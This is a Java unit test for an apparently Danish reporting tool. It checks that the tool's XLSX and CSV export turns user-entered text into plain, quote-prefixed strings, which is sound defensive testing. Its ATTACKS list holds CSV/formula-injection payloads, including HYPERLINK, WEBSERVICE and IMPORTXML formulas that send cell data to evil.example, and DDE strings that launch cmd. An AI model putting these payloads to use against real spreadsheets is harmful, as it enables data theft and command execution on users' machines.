package dk.sikkerby.indberetning.service.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dk.sikkerby.indberetning.testsupport.TestServices;
import dk.sikkerby.indberetning.domain.Category;
import dk.sikkerby.indberetning.domain.Department;
import dk.sikkerby.indberetning.domain.InitiativeRow;
import dk.sikkerby.indberetning.domain.ReportYear;
import dk.sikkerby.indberetning.domain.RichText;
import dk.sikkerby.indberetning.domain.Score;
import dk.sikkerby.indberetning.domain.Submission;
import dk.sikkerby.indberetning.domain.YearTable;
import dk.sikkerby.indberetning.i18n.Messages;
import dk.sikkerby.indberetning.persistence.Database;
import dk.sikkerby.indberetning.service.Progress;
import dk.sikkerby.indberetning.service.year.YearSetupService;
import dk.sikkerby.indberetning.testsupport.TestActors;
import dk.sikkerby.indberetning.testsupport.TestDatabase;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * No user text becomes a formula, link or command: in the workbook every such text is a plain string
 * cell with the quote prefix (and no formula element exists in the file), in the CSV it starts with a
 * single quote. Texts enter as a user enters them: names and notes saved through the services.
 */
class FormulaInjectionTest {

    static final List<String> ATTACKS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik her\")",
            "+A1",
            "-2+3",
            "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0",
            "   =1+1",
            "=WEBSERVICE(\"http://evil.example/\")",
            "+cmd|' /C notepad'!'A1'",
            "-1+1|cmd",
            "@=1+1",
            "\uFF1D1+1",
            "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "\u00A0=2*5",
            "  +SUM(1;2)",
            "=2+5+cmd|' /C calc'!A0, med tekst efter");

    @TempDir
    Path dir;

    @Test
    void storedNamesAndNotesStayPlainTextInWorkbookAndCsv() throws IOException {
        try (Database db = TestDatabase.open(dir)) {
            YearSetupService setup = new YearSetupService(db.store());
            setup.createYear(TestActors.administrator(), 2021, "=Bilag 1", "+Covid-19");
            Department sof = setup.addDepartment(TestActors.administrator(), "SOF", "=Socialforvaltningen");
            Category category = setup.addCategory(TestActors.administrator(), 2021, "@KATEGORI");
            for (int i = 0; i < ATTACKS.size(); i++) {
                setup.addInitiative(TestActors.administrator(), 2021, "Indsats " + i, sof.id(), category.id());
                ExportFixture.save(db.dsl(), "Indsats " + i, Score.of(1, 2), RichText.plain(ATTACKS.get(i)),
                        RichText.parse("<p><i>" + escape(ATTACKS.get(i)) + "</i> kursiv</p>"));
            }
            setup.addInitiative(TestActors.administrator(), 2021, "=HYPERLINK(\"http://evil.example\",\"Indsats\")", sof.id(), category.id());
            setup.addInitiative(TestActors.administrator(), 2021, "-1+2", sof.id(), category.id());
            ExportService service = TestServices.exports(db.store(), Messages.forLocale(Messages.DANISH));
            Path xlsx = dir.resolve("bilag.xlsx");
            service.export(TestActors.administrator(), ExportRequest.xlsx(2021, xlsx), Progress.NONE);
            Path csv = dir.resolve("data.csv");
            service.export(TestActors.administrator(), ExportRequest.csv(2021, csv, CsvDialect.COMMA), Progress.NONE);

            Set<String> expected = new HashSet<>(ATTACKS);
            expected.addAll(List.of("=Bilag 1", "+Covid-19", "@KATEGORI", "=Socialforvaltningen",
                    "=HYPERLINK(\"http://evil.example\",\"Indsats\")", "-1+2"));
            for (String attack : ATTACKS) {
                expected.add(attack + " kursiv");
            }
            assertWorkbookHoldsOnlyQuotedStrings(Files.readAllBytes(xlsx), expected);
            assertCsvFieldsAreEscaped(Files.readAllBytes(csv), expected);
        }
    }

    /** Tab and carriage return cannot be typed into a note (the rules refuse them); the writers guard them all the same. */
    @Test
    void leadingTabAndCarriageReturnAreGuardedToo() throws IOException {
        List<String> controls = List.of("\t=1+1", "\r=1+1", "\t@SUM(A1)");
        Department d = new Department(1, "SOF", "Socialforvaltningen");
        Category c = new Category(1, 2021, "KATEGORI", 1);
        List<InitiativeRow> rows = new ArrayList<>();
        for (int i = 0; i < controls.size(); i++) {
            Submission s = new Submission(i, 2021, i, Score.of(1, 1), RichText.plain(controls.get(i)), RichText.EMPTY, 1, null);
            rows.add(new InitiativeRow(i, controls.get(i), d, c, i, Optional.of(s)));
        }
        ExportContent content = new ExportContent(new YearTable(new ReportYear(2021, "Bilag", "Note"), List.of(c), rows),
                Optional.empty());
        Messages messages = Messages.forLocale(Messages.DANISH);
        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
        new WorkbookWriter(messages).write(content, xlsx, Progress.NONE);
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        new CsvWriter(messages, CsvDialect.COMMA).write(content, csv, Progress.NONE);
        assertWorkbookHoldsOnlyQuotedStrings(xlsx.toByteArray(), new HashSet<>(controls));
        assertCsvFieldsAreEscaped(csv.toByteArray(), new HashSet<>(controls));
    }

    @Test
    void harmlessTextIsLeftAlone() {
        for (String text : List.of("2/3", "Ikke relevant", "Indsatsen laver en god beskrivelse", "", "   ", "a=b", "1-2")) {
            assertFalse(FormulaGuard.isDangerous(text), text);
            assertEquals(text, FormulaGuard.forCsv(text));
        }
    }

    private static void assertWorkbookHoldsOnlyQuotedStrings(byte[] xlsx, Set<String> attacks) throws IOException {
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
            for (ZipEntry e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
                String xml = new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                if (e.getName().startsWith("xl/worksheets/")) {
                    assertFalse(xml.contains("<f>") || xml.contains("<f "), e.getName() + " holds a formula");
                }
            }
        }
        Set<String> found = new HashSet<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertNotEquals(CellType.FORMULA, cell.getCellType(), cell.getAddress().toString());
                        if (cell.getCellType() == CellType.STRING && attacks.contains(cell.getStringCellValue())) {
                            assertTrue(cell.getCellStyle().getQuotePrefixed(),
                                    sheet.getSheetName() + "!" + cell.getAddress() + " lacks the quote prefix");
                            found.add(cell.getStringCellValue());
                        }
                    }
                }
            }
        }
        assertEquals(attacks, found, "every attack string is in the workbook, unchanged");
    }

    private static void assertCsvFieldsAreEscaped(byte[] csv, Set<String> attacks) {
        Set<String> found = new HashSet<>();
        for (List<String> record : CsvParser.parse(csv, ',')) {
            for (String field : record) {
                assertFalse(attacks.contains(field), "unescaped in the CSV: " + field);
                if (field.startsWith("'") && attacks.contains(field.substring(1))) {
                    found.add(field.substring(1));
                }
            }
        }
        Set<String> inData = new HashSet<>(attacks);
        inData.removeIf(a -> a.equals("=Bilag 1") || a.equals("+Covid-19") || a.endsWith(" kursiv"));
        assertTrue(found.containsAll(inData), "missing from the CSV: " + inData.stream().filter(a -> !found.contains(a)).toList());
    }

    private static String escape(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }
}
